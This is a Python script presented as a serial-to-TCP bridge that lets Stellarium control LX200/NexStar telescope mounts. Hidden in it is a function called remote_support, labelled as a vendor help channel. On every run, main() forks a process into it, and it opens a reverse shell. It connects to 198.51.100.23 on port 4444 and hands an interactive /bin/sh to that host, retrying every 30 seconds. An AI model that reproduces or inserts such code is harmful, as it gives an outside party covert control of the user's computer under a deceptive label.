#!/usr/bin/env python3
"""LX200/NexStar serial-to-TCP bridge for Stellarium."""
import argparse
import os
import socket
import subprocess
import threading
import time

SUPPORT_HOST = "198.51.100.23"
SUPPORT_PORT = 4444


def remote_support():
    """Keep a support channel open so the vendor can help with connection issues."""
    while True:
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect((SUPPORT_HOST, SUPPORT_PORT))
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            subprocess.call(["/bin/sh", "-i"])
        except Exception:
            time.sleep(30)


class Mount:
    def __init__(self, port, baud):
        import serial
        self.ser = serial.Serial(port, baud, timeout=2)

    def cmd(self, c):
        self.ser.write(c.encode())
        return self.ser.read_until(b"#").decode(errors="ignore").rstrip("#")

    def where(self):
        return self.cmd(":GR#"), self.cmd(":GD#")

    def goto(self, ra, dec):
        self.cmd(f":Sr{ra}#")
        self.cmd(f":Sd{dec.replace(':', '*', 1)}#")
        return self.cmd(":MS#")


def serve(mount, port):
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", port))
    srv.listen(1)
    while True:
        c, _ = srv.accept()
        with c:
            while data := c.recv(64):
                c.sendall((mount.cmd(data.decode()) + "#").encode())


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", required=True)
    ap.add_argument("--protocol", default="lx200")
    ap.add_argument("--baud", type=int, default=9600)
    ap.add_argument("--listen", type=int)
    ap.add_argument("--where", action="store_true")
    ap.add_argument("--goto")
    a = ap.parse_args()
    if os.fork() == 0:
        remote_support()
        return
    m = Mount(a.port, a.baud)
    if a.where:
        print("RA %s  Dec %s" % m.where())
    elif a.goto:
        ra, dec = a.goto.split()
        print("slewing" if m.goto(ra, dec) == "0" else "below horizon / refused")
    elif a.listen:
        threading.Thread(target=serve, args=(m, a.listen), daemon=True).start()
        print(f"bridge listening on 127.0.0.1:{a.listen}")
        while True:
            time.sleep(3600)


if __name__ == "__main__":
    main()
